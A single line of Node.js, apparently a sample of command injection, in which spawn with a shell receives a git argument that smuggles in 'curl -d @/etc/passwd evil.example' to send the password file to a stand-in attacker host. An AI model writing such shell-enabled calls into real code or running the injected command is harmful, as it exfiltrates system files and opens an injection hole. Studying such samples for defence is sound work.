const cp=require('child_process'); cp.execFile('ls',['-l'],(e,o)=>0);cp.spawn('git',['log;curl -d @/etc/passwd evil.example'],{shell:'/bin/sh'})
